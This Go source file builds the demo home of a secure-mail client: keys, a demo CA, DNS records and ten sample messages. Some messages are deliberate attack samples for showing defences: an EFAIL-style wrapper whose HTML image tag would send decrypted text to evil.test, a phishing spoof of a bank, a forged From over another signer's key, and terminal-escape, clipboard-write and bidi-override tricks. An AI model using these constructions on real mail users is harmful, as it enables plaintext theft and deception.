package demo

import (
	"bytes"
	"crypto"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"net/mail"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/securemail/securemail"
	"github.com/securemail/securemail/config"
	"github.com/securemail/securemail/keystore"
	"github.com/securemail/securemail/mailauth"
	"github.com/securemail/securemail/mailbox"
	"github.com/securemail/securemail/message"
	"github.com/securemail/securemail/smimea"
)

// world is everything on the other side while the home is built: the
// contacts' secret keys (in a keystore of their own, thrown away once
// the messages are made), the CA, the DKIM keys, the zone being written.
type world struct {
	now   time.Time
	dated time.Time       // the newest message's date
	you   *keystore.Store // the demo user's keystore (stays in the home)
	them  *keystore.Store // the contacts' identities (temporary)
	ca    *authority
	zone  strings.Builder
	dkim  map[string]crypto.Signer // by domain
	erin  []byte                   // Erin's OpenPGP public key, binary
	msgs  [][]byte
	youFP struct{ pgp, smime string }
}

// build makes a demo home in dir.
func build(dir string, clock func() time.Time, dated time.Time) (err error) {
	now := clock()
	if dated.IsZero() {
		dated = now
	}
	if err := os.MkdirAll(filepath.Join(dir, "demo"), 0o700); err != nil {
		return err
	}
	if err := os.Chmod(dir, 0o700); err != nil {
		return err
	}
	tmp, err := os.MkdirTemp("", "securemail-demo-world-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(tmp)
	w := &world{now: now, dated: dated, dkim: map[string]crypto.Signer{}}
	if w.you, err = keystore.Open(filepath.Join(dir, keysDir), &keystore.Options{Now: clock}); err != nil {
		return err
	}
	if w.them, err = keystore.Open(filepath.Join(tmp, "keys"), &keystore.Options{Now: clock}); err != nil {
		return err
	}
	if w.ca, err = newAuthority(now); err != nil {
		return err
	}
	steps := []func() error{w.makeKeys, w.makeDNS, w.makeMessages}
	for _, step := range steps {
		if err := step(); err != nil {
			return err
		}
	}
	// Deliver oldest first, one second apart, so that the list shows them
	// in this order (newest on top).
	t := now.Add(-time.Duration(len(w.msgs)+1) * time.Minute)
	md, err := mailbox.OpenMaildir(filepath.Join(dir, maildirDir), &mailbox.Options{
		Create: true, Hostname: "demo.example.test",
		Now: func() time.Time { t = t.Add(time.Second); return t },
	})
	if err != nil {
		return err
	}
	defer md.Close()
	for _, f := range []string{"Outbox", "Drafts"} {
		if err := md.CreateFolder(f); err != nil {
			return err
		}
	}
	for _, msg := range w.msgs {
		if _, err := md.Deliver("INBOX", bytes.NewReader(msg), 0); err != nil {
			return err
		}
	}
	files := map[string][]byte{
		caFile:     w.ca.pem(),
		readmeFile: []byte(readme),
		configFile: append([]byte("# securemail configuration (made by `securemail demo`)\n"), config.Marshal(&config.Account{
			Name: "demo", Address: MeAddress, DisplayName: MeName,
			Maildir: &config.Maildir{Path: filepath.Join(dir, maildirDir)},
		})...),
		// Written last: its presence says the home is complete.
		zoneFile: []byte(w.zone.String()),
	}
	for _, name := range []string{caFile, readmeFile, configFile, zoneFile} {
		if err := os.WriteFile(filepath.Join(dir, name), files[name], 0o600); err != nil {
			return err
		}
	}
	return nil
}

const readme = `This is a securemail demo home, made by "securemail demo".

  keys/          your keystore: your identities (no passphrase: a demo), your
                 contacts' keys, the demo CA as an S/MIME trust anchor
  Maildir/       the mailbox: INBOX with the demo messages, Outbox, Drafts
  demo/world.zone  the DNS records the demo serves on loopback while it runs
                 (SMIMEA, OPENPGPKEY, DKIM keys, SPF, DMARC)
  demo/anchor.txt  the DNSSEC trust anchor of the running demo's DNS

Run "securemail demo --home DIR" again to open it.
`

// makeKeys makes the user's identities and the contacts' keys.
func (w *world) makeKeys() error {
	noPass := &keystore.ImportOptions{NoPassphrase: true}
	// You: an OpenPGP key, an S/MIME certificate from the demo CA, and the
	// CA as a trust anchor.
	res, err := w.you.Generate(keystore.GenerateRequest{Email: MeAddress, Name: MeName, PGP: true, Algo: "ed25519", NoPassphrase: true})
	if err != nil {
		return err
	}
	w.youFP.pgp = res[0].Fingerprint
	id, youCert, err := w.ca.issue(MeAddress, MeName, w.now)
	if err != nil {
		return err
	}
	if _, err := w.you.Import([]keystore.Input{{Name: "you.pem", Data: id}}, noPass); err != nil {
		return err
	}
	w.youFP.smime = keystore.CertificateFingerprint(youCert.Raw)
	if _, err := w.you.AddTrustAnchor(keystore.Input{Name: "demo-ca.pem", Data: w.ca.pem()}); err != nil {
		return err
	}

	// The contacts: Alice and Dave with OpenPGP keys you have, Erin with
	// one you do not (it is in the DNS), Bob and Dana with S/MIME
	// certificates (Dana's only in the DNS).
	for _, p := range []struct{ addr, name string }{{AliceAddress, "Alice Demo"}, {DaveAddress, "Dave Demo"}, {ErinAddress, "Erin Demo"}} {
		res, err := w.them.Generate(keystore.GenerateRequest{Email: p.addr, Name: p.name, PGP: true, Algo: "ed25519", NoPassphrase: true})
		if err != nil {
			return err
		}
		var pub bytes.Buffer
		if err := w.them.Export(&pub, res[0].Fingerprint, keystore.ExportBinary); err != nil {
			return err
		}
		if p.addr == ErinAddress {
			w.erin = pub.Bytes()
			continue
		}
		if _, err := w.you.Import([]keystore.Input{{Name: p.addr + ".pgp", Data: pub.Bytes()}}, nil); err != nil {
			return err
		}
	}
	for _, p := range []struct{ addr, name string }{{BobAddress, "Bob Demo"}, {DanaAddress, "Dana Demo"}} {
		id, cert, err := w.ca.issue(p.addr, p.name, w.now)
		if err != nil {
			return err
		}
		if _, err := w.them.Import([]keystore.Input{{Name: p.addr + ".pem", Data: id}}, noPass); err != nil {
			return err
		}
		if err := w.publishSMIMEA(p.addr, cert); err != nil {
			return err
		}
	}
	if err := w.publishOPENPGPKEY(ErinAddress, w.erin); err != nil {
		return err
	}

	// What the contacts know of you: your OpenPGP key, your certificate
	// and that your client reads AES-GCM and RSA-OAEP (as a signed
	// message from you would have told them).
	var pub bytes.Buffer
	if err := w.you.Export(&pub, w.youFP.pgp, keystore.ExportBinary); err != nil {
		return err
	}
	if _, err := w.them.Import([]keystore.Input{{Name: "you.pgp", Data: pub.Bytes()}}, nil); err != nil {
		return err
	}
	if _, err := w.them.Import([]keystore.Input{{Name: "you.pem", Data: youCert.Raw}}, nil); err != nil {
		return err
	}
	if err := w.them.SetCapabilities(w.youFP.smime, true, true); err != nil {
		return err
	}
	_, err = w.them.AddTrustAnchor(keystore.Input{Name: "demo-ca.pem", Data: w.ca.pem()})
	return err
}

func (w *world) publishSMIMEA(addr string, cert *x509.Certificate) error {
	owner, err := smimea.OwnerName(addr)
	if err != nil {
		return err
	}
	rec, err := smimea.NewRecord(cert, 3, 0, 0)
	if err != nil {
		return err
	}
	fmt.Fprintf(&w.zone, "; %s: S/MIME certificate (DANE-EE, the whole certificate)\n%s\n", addr, rec.ZoneLine(owner, 3600, "SMIMEA"))
	return nil
}

func (w *world) publishOPENPGPKEY(addr string, key []byte) error {
	owner, err := smimea.OpenPGPKeyName(addr)
	if err != nil {
		return err
	}
	fmt.Fprintf(&w.zone, "; %s: OpenPGP key\n%s 3600 IN OPENPGPKEY %s\n", addr, owner, base64.StdEncoding.EncodeToString(key))
	return nil
}

// Where the demo's senders really send from (documentation addresses).
// example.test's mail server is the one testkit publishes: MX
// mail.example.test, 192.0.2.25, "v=spf1 mx -all", DMARC p=reject.
const (
	exampleIP = "192.0.2.25"
	newsIP    = "192.0.2.53"
	bankIP    = "198.51.100.10"
	evilIP    = "203.0.113.66"
)

// makeDNS writes the senders' DKIM keys, SPF and DMARC policies.
func (w *world) makeDNS() error {
	for _, domain := range []string{"example.test", "news.test", "evil.test"} {
		k, err := mailauth.GenerateDKIMKey(mailauth.DKIMEd25519, nil)
		if err != nil {
			return err
		}
		w.dkim[domain] = k
		line, err := mailauth.DKIMZoneLine("demo", domain, k.Public())
		if err != nil {
			return err
		}
		fmt.Fprintf(&w.zone, "; %s: DKIM key\n%s\n", domain, line)
	}
	for _, r := range []struct{ domain, ip, dmarc string }{
		{"news.test", newsIP, "v=DMARC1; p=reject; adkim=s"},
		{"bank.test", bankIP, "v=DMARC1; p=reject"},
		{"evil.test", evilIP, "v=DMARC1; p=none"},
	} {
		fmt.Fprintf(&w.zone, "; %s: SPF and DMARC\n%s. 3600 IN TXT \"v=spf1 ip4:%s -all\"\n_dmarc.%s. 3600 IN TXT \"%s\"\n", r.domain, r.domain, r.ip, r.domain, r.dmarc)
	}
	return nil
}

// Messages describes the demo mailbox: each message, top of the list
// first, and what it shows.
var Messages = []struct{ Subject, Shows string }{
	{"Welcome to the securemail demo", "a plain message: not signed, not encrypted; the tour"},
	{"...", "PGP/MIME encrypted and signed by Alice (protected subject: \"Lunch on Friday?\"): verified, key from your keystore"},
	{"Signed minutes of the board meeting", "S/MIME signed by Bob with a chain to the demo CA: valid signature, certificate carried by the message"},
	{"...", "S/MIME AuthEnvelopedData (AES-256-GCM) encrypted and signed by Bob (protected subject: \"The new door codes\")"},
	{"Quarterly figures", "signed with Dave's valid OpenPGP key, but From says Alice: the signer is NOT the sender"},
	{"Demo News: this week in secure mail", "a newsletter with DKIM, SPF and DMARC passing for news.test"},
	{"Urgent: confirm your account", "claims to be from bank.test, DKIM-signed by evil.test and sent from evil's server: DMARC fail (p=reject)"},
	{"Re: the contract", "EFAIL-style: an encrypted part wrapped between HTML parts that would exfiltrate it; not shown as encrypted, offered as an attachment"},
	{"ESC[1;32m✔ Verified ESC[0m (subject with escapes)", "ANSI and OSC escapes and a bidi override in the subject, sender name and body, and a fake \"verified\" banner in the body: all neutralised, the banner stays in the body"},
	{"Report and notes attached", "signed by Alice with two attachments to save (never opened)"},
}

// makeMessages makes the demo messages, oldest first (w.msgs is in
// delivery order).
func (w *world) makeMessages() error {
	pgp := &securemail.PGP{Store: w.them}
	sm := &securemail.SMIME{Store: w.them}
	prot := &securemail.ProtectOptions{Protectors: []securemail.Protector{pgp, sm}}
	you := &mail.Address{Name: MeName, Address: MeAddress}
	alice := &mail.Address{Name: "Alice Demo", Address: AliceAddress}
	bob := &mail.Address{Name: "Bob Demo", Address: BobAddress}
	at := func(ago time.Duration) time.Time { return w.dated.Add(-ago).Truncate(time.Minute) }
	protect := func(d *message.Draft, p securemail.Policy) ([]byte, error) {
		return securemail.Protect(d, p, prot)
	}

	// 10. Attachments, signed by Alice.
	attach, err := protect(&message.Draft{From: alice, To: []*mail.Address{you}, Date: at(50 * time.Hour),
		Subject: "Report and notes attached",
		Text:    "Hi,\n\nthe report and my notes are attached. Press s to save the selected\nattachment: securemail never opens one by itself.\n\nAlice\n",
		Attachments: []message.Attachment{
			{Filename: "quarterly-report.pdf", ContentType: "application/pdf", Data: fakePDF()},
			{Filename: "notes.txt", Data: []byte("1. budget\n2. hiring\n3. the new office\n")},
		}}, securemail.Policy{Sign: true, Scheme: "pgp"})
	if err != nil {
		return fmt.Errorf("attachments: %w", err)
	}

	// 9. Escapes in the subject, the sender's name and the body, and a fake
	// status banner in the body (S24, S25).
	esc := "\x1b"
	hostile, err := message.Compose(&message.Draft{
		From: &mail.Address{Name: esc + "[1;32mYour Bank (verified)" + esc + "[0m", Address: "notify@evil.test"},
		To:   []*mail.Address{you}, Date: at(30 * time.Hour),
		Subject: esc + "[1;32m✔ Verified " + esc + "[0m" + esc + "]8;;http://evil.test/" + esc + "\\statement" + esc + "]8;;" + esc + "\\ \u202efdp.exe",
		Text: esc + "[2J" + esc + "[H" +
			"╭─ Security ─────────────────────────────────────────────╮\n" +
			"│ ✓ Verified: encrypted, and signed by the sender          │\n" +
			"│ ✓ Signature (OpenPGP): valid, by security@bank.test      │\n" +
			"│ ✓ DMARC pass: sent by bank.test                          │\n" +
			"╰────────────────────────────────────────────────────────╯\n" +
			esc + "[32mThis banner is part of the message body." + esc + "[0m It cannot reach the\n" +
			"status panel above, and the escape sequences around it are shown, not run.\n" +
			esc + "]52;c;ZXZpbA==" + "\a" + "(an OSC 52 clipboard write, neutralised)\n" +
			"Right-to-left override: \u202eexe.pdf\n",
	}, nil)
	if err != nil {
		return fmt.Errorf("escapes: %w", err)
	}

	// 8. EFAIL-style: an encrypted part between HTML parts that would send
	// its plaintext to evil.test if a client joined them (S01, S02).
	inner, err := protect(&message.Draft{From: alice, To: []*mail.Address{you}, Date: at(70 * time.Hour),
		Subject: "the contract", Text: "The draft contract is fine by me. Let's sign on Monday.\n"},
		securemail.Policy{Encrypt: true, Sign: true, Scheme: "pgp"})
	if err != nil {
		return fmt.Errorf("efail: %w", err)
	}
	efail, err := wrapEFAIL(inner, &message.Draft{From: &mail.Address{Name: "Alice Demo", Address: "alice@evil.test"},
		To: []*mail.Address{you}, Date: at(26 * time.Hour), Subject: "Re: the contract"})
	if err != nil {
		return fmt.Errorf("efail: %w", err)
	}

	// 7. A spoof of bank.test: DKIM-signed by evil.test, sent from
	// evil.test's server; bank.test publishes p=reject.
	spoof, err := message.Compose(&message.Draft{From: &mail.Address{Name: "Demo Bank Security", Address: "security@bank.test"},
		To: []*mail.Address{you}, Date: at(20 * time.Hour), Subject: "Urgent: confirm your account",
		Text: "Dear customer,\n\nyour account will be closed today unless you confirm your details at\nhttp://bank.test.evil.test/login\n\nDemo Bank\n"}, nil)
	if err == nil {
		spoof, err = w.dkimSign(spoof, "evil.test")
	}
	if err != nil {
		return fmt.Errorf("spoof: %w", err)
	}
	spoof = received(spoof, "mail.evil.test", evilIP, "bounce@evil.test", at(20*time.Hour))

	// 6. A newsletter that passes DKIM, SPF and DMARC.
	news, err := message.Compose(&message.Draft{From: &mail.Address{Name: "Demo News", Address: "news@news.test"},
		To: []*mail.Address{you}, Date: at(10 * time.Hour), Subject: "Demo News: this week in secure mail",
		Text: "This week: SMIMEA records, DNSSEC, and why DMARC matters.\n\nThis message is signed with DKIM by news.test, sent from news.test's\nserver (SPF), and news.test's DMARC policy is met: the status panel\nsays who really sent it.\n",
		HTML: "<h1>Demo News</h1><p>This week: <b>SMIMEA</b> records, DNSSEC, and why DMARC matters.</p><p><img src=\"http://news.test/pixel.gif\" alt=\"\"> Nothing is fetched.</p>"}, nil)
	if err == nil {
		news, err = w.dkimSign(news, "news.test")
	}
	if err != nil {
		return fmt.Errorf("newsletter: %w", err)
	}
	news = received(news, "mail.news.test", newsIP, "news@news.test", at(10*time.Hour))

	// 5. Signed with Dave's valid key, but From says Alice (S23).
	notSender, err := protect(&message.Draft{From: &mail.Address{Name: "Dave Demo", Address: DaveAddress}, To: []*mail.Address{you},
		Date: at(6 * time.Hour), Subject: "Quarterly figures",
		Text: "The figures are final: please approve the transfer today.\n\nAlice\n"},
		securemail.Policy{Sign: true, Scheme: "pgp"})
	if err != nil {
		return fmt.Errorf("not-sender: %w", err)
	}
	notSender = replaceHeader(notSender, "From", "Alice Demo <"+AliceAddress+">")

	// 4. S/MIME AuthEnvelopedData, signed inside.
	enveloped, err := protect(&message.Draft{From: bob, To: []*mail.Address{you}, Date: at(4 * time.Hour),
		Subject: "The new door codes",
		Text:    "The new door codes are 4711 (front) and 0815 (back).\n\nThis message is S/MIME AuthEnvelopedData (AES-256-GCM): its integrity is\nprotected, and it is signed inside by me.\n\nBob\n"},
		securemail.Policy{Sign: true, Encrypt: true, Scheme: "smime"})
	if err != nil {
		return fmt.Errorf("enveloped: %w", err)
	}

	// 3. S/MIME signed, with a chain to the demo CA.
	signed, err := protect(&message.Draft{From: bob, To: []*mail.Address{you}, Date: at(3 * time.Hour),
		Subject: "Signed minutes of the board meeting",
		Text:    "Minutes of the board meeting:\n\n- the budget is approved\n- the office moves in March\n\nThis message is S/MIME signed; my certificate comes from the demo CA,\nwhich your keystore trusts.\n\nBob\n"},
		securemail.Policy{Sign: true, Scheme: "smime"})
	if err != nil {
		return fmt.Errorf("smime signed: %w", err)
	}

	// 2. PGP/MIME encrypted and signed by Alice.
	lunch, err := protect(&message.Draft{From: alice, To: []*mail.Address{you}, Date: at(2 * time.Hour),
		Subject: "Lunch on Friday?",
		Text:    "Hi,\n\nlunch on Friday at noon? The usual place.\n\nThis message is PGP/MIME encrypted and signed; its subject is protected\ntoo. Reply with r: the reply is encrypted as well, and securemail will\nnot let it go out in the clear.\n\nAlice\n"},
		securemail.Policy{Sign: true, Encrypt: true, Scheme: "pgp"})
	if err != nil {
		return fmt.Errorf("pgp: %w", err)
	}

	// 1. Welcome.
	welcome, err := message.Compose(&message.Draft{From: &mail.Address{Name: "securemail demo", Address: "demo@example.test"},
		To: []*mail.Address{you}, Date: at(time.Minute), Subject: "Welcome to the securemail demo", Text: welcomeText}, nil)
	if err != nil {
		return err
	}
	// How each reached you.
	for _, r := range []struct {
		msg      *[]byte
		dkim     string
		helo, ip string
		from     string
		ago      time.Duration
	}{
		{&attach, "example.test", "mail.example.test", exampleIP, AliceAddress, 50 * time.Hour},
		{&hostile, "", "mail.evil.test", evilIP, "notify@evil.test", 30 * time.Hour},
		{&efail, "evil.test", "mail.evil.test", evilIP, "alice@evil.test", 26 * time.Hour},
		{&notSender, "example.test", "mail.example.test", exampleIP, DaveAddress, 6 * time.Hour},
		{&enveloped, "example.test", "mail.example.test", exampleIP, BobAddress, 4 * time.Hour},
		{&signed, "example.test", "mail.example.test", exampleIP, BobAddress, 3 * time.Hour},
		{&lunch, "example.test", "mail.example.test", exampleIP, AliceAddress, 2 * time.Hour},
		{&welcome, "example.test", "mail.example.test", exampleIP, "demo@example.test", time.Minute},
	} {
		if *r.msg, err = w.via(*r.msg, nil, r.dkim, r.helo, r.ip, r.from, at(r.ago)); err != nil {
			return err
		}
	}
	w.msgs = [][]byte{attach, hostile, efail, spoof, news, notSender, enveloped, signed, lunch, welcome}
	return nil
}

const welcomeText = `Welcome! Everything here runs on this machine: the keys, the mailbox and
a DNSSEC-signed DNS served on loopback.

Try this:

 - Open each message (j/k to move, enter to open): the framed panel on
   top says who really sent it, from securemail's verdict alone. Nothing
   in a message can draw into it.
 - Alice's encrypted message: press r to reply. The reply is encrypted,
   and cannot be sent in the clear. ctrl+x sends it to the Outbox folder.
 - Press m and write to dana@example.test: her S/MIME certificate is
   not in your keystore, and is found in the DNS (SMIMEA, DNSSEC secure).
   erin@example.test has an OpenPGP key in the DNS (OPENPGPKEY).
 - Press K for your keys; l looks an address up in the DNS, p pins it.
 - Press ? for all the keys.

This message itself is neither signed nor encrypted: the panel says so.
`

// via is how a message reaches you: signed with DKIM by its sending
// domain's server (when dkimDomain is set), then received by the demo's
// inbound server from that server's address.
func (w *world) via(raw []byte, err error, dkimDomain, helo, ip, mailFrom string, at time.Time) ([]byte, error) {
	if err != nil {
		return nil, err
	}
	if dkimDomain != "" {
		if raw, err = w.dkimSign(raw, dkimDomain); err != nil {
			return nil, err
		}
	}
	return received(raw, helo, ip, mailFrom, at), nil
}

// dkimSign signs a message with domain's DKIM key (selector "demo").
func (w *world) dkimSign(raw []byte, domain string) ([]byte, error) {
	return mailauth.SignDKIM(raw, &mailauth.DKIMSignOptions{Domain: domain, Selector: "demo", Signer: w.dkim[domain]})
}

// received adds what the demo's inbound server records on delivery: the
// Return-Path (MAIL FROM) and its Received field, with the client's
// address, for SPF.
func received(raw []byte, helo, ip, mailFrom string, at time.Time) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "Return-Path: <%s>\r\n", mailFrom)
	fmt.Fprintf(&b, "Received: from %s (%s [%s])\r\n\tby %s (securemail demo) with ESMTPS id demo\r\n\tfor <%s>; %s\r\n",
		helo, helo, ip, TrustedHop, MeAddress, at.Add(time.Minute).Format(time.RFC1123Z))
	b.Write(raw)
	return b.Bytes()
}

// replaceHeader replaces the first field called name in the header
// block, as an attacker editing a signed message's outside would.
func replaceHeader(raw []byte, name, value string) []byte {
	end := bytes.Index(raw, []byte("\r\n\r\n"))
	if end < 0 {
		return raw
	}
	lines := strings.SplitAfter(string(raw[:end+2]), "\r\n")
	for i, l := range lines {
		if strings.HasPrefix(strings.ToLower(l), strings.ToLower(name)+":") {
			lines[i] = name + ": " + value + "\r\n"
			// Drop its folded continuation lines.
			for j := i + 1; j < len(lines) && (strings.HasPrefix(lines[j], " ") || strings.HasPrefix(lines[j], "\t")); j++ {
				lines[j] = ""
			}
			break
		}
	}
	return append([]byte(strings.Join(lines, "")), raw[end+2:]...)
}

// wrapEFAIL puts the MIME entity of an encrypted message between two
// HTML parts: the first opens an <img src=" that the second closes, so
// a client that joined the parts and loaded images would send the
// decrypted text to evil.test.
func wrapEFAIL(encrypted []byte, d *message.Draft) ([]byte, error) {
	m, err := message.Parse(encrypted, nil)
	if err != nil {
		return nil, err
	}
	var entity bytes.Buffer
	for _, f := range m.Root.Header.Fields {
		if strings.HasPrefix(strings.ToLower(f.Name), "content-") {
			entity.Write(m.Raw[f.Start:f.End])
		}
	}
	entity.WriteString("\r\n")
	entity.Write(m.Body(m.Root))
	parts := [][]byte{
		[]byte("Content-Type: text/html; charset=us-ascii\r\n\r\n<p>Please see below.</p><img src=\"http://evil.test/collect?text=\r\n"),
		entity.Bytes(),
		[]byte("Content-Type: text/html; charset=us-ascii\r\n\r\n\">\r\n"),
	}
	body, err := message.ComposeMultipart(nil, "multipart/mixed", nil, parts)
	if err != nil {
		return nil, err
	}
	hdr, err := message.ComposeHeader(d, nil)
	if err != nil {
		return nil, err
	}
	return append(hdr, body...), nil
}

// fakePDF is a tiny valid-looking PDF.
func fakePDF() []byte {
	return []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
}
